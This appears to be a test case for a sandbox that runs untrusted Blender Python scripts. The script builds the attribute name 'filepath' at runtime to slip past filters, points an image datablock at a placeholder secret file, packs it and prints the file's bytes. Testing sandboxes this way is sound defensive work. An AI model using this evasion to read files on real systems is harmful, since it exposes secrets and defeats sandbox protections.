# attack: an image datablock is pointed at a file by setattr with a computed name; packing reads the bytes of any file
# family: files
import bpy

image = bpy.data.images.new("wood", 1, 1)
image.source = "FILE"
setattr(image, "file" + "path", "$SECRET_FILE")
print("REACHED", image.path_resolve("filepath"))
image.pack()
print("ESCAPED", image.packed_file.data)
